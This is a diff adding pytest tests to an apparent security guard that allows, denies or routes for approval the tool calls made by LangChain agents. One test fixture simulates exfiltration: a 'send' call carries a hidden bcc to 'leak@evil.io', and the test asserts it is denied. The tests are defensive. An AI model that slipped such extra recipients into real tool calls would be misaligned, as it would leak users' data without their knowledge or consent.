@@ -225,6 +225,53 @@ def test_deny_flow_wins_over_approval_flow() -> None:
     assert guard.decide(call("send"), persona="p", state=state).rule == "flows.stop"
 
 
+def test_persona_args_do_not_loosen_extra_args_deny() -> None:
+    from langchain_secure import load_policy_text
+
+    guard = Guard(load_policy_text(
+        "personas:\n"
+        "  a: {tools: {send: {args: {bcc: {max_length: 200}}}}}\n"
+        "  b: {tools: [send]}\n"
+        "tools:\n"
+        "  send: {extra_args: deny, args: {to: {regex: '.*@acme\\.com'}}}\n"))
+    leak = call("send", to="x@acme.com", bcc="leak@evil.io")
+    for persona in ("a", "b"):
+        decision = guard.decide(leak, persona=persona)
+        assert (decision.action, decision.rule) == (D, "tools.send.extra_args")
+
+
+def test_items_in_approval_condition_fails_closed() -> None:
+    from langchain_secure import load_policy_text
+
+    guard = Guard(load_policy_text(
+        "personas: {p: {tools: [pay]}}\n"
+        "tools:\n  pay:\n    approval:\n      when:\n"
+        "        - args: {amounts: {items: {range: {min: 100}}}}\n"))
+    assert guard.decide(call("pay", amounts=["5000"]), persona="p").action == R
+    assert guard.decide(call("pay", amounts=[500, 700]), persona="p").action == R
+    assert guard.decide(call("pay", amounts=[5, 7]), persona="p").action == A
+
+
+def test_state_with_null_fields_is_a_new_thread(guard: Guard) -> None:
+    state = {"labels": None, "tool_calls": None, "total_calls": None}
+    assert guard.decide(call("search"), persona="analyst", state=state).action == A
+
+
+def test_budget_of_one_reads_well() -> None:
+    from langchain_secure import load_policy_text
+
+    guard = Guard(load_policy_text(
+        "personas: {p: {tools: [t], max_calls_per_thread: 1}}\n"
+        "tools: {t: {max_calls_per_thread: 1}}\n"))
+    state = {"tool_calls": {"t": 1}, "total_calls": 1}
+    assert guard.decide(call("t"), persona="p", state=state).reason == (
+        "the budget of 1 tool call in this thread is spent")
+    guard = Guard(load_policy_text("personas: {p: {tools: [t]}}\n"
+                                   "tools: {t: {max_calls_per_thread: 1}}\n"))
+    assert guard.decide(call("t"), persona="p", state=state).reason == (
+        "the budget of 1 call of 't' in this thread is spent")
+
+
 def test_decide_is_deterministic(guard: Guard) -> None:
     c = call("send_email", to="a@example.com", body="x")
     state = {"labels": ["reads_sensitive"]}
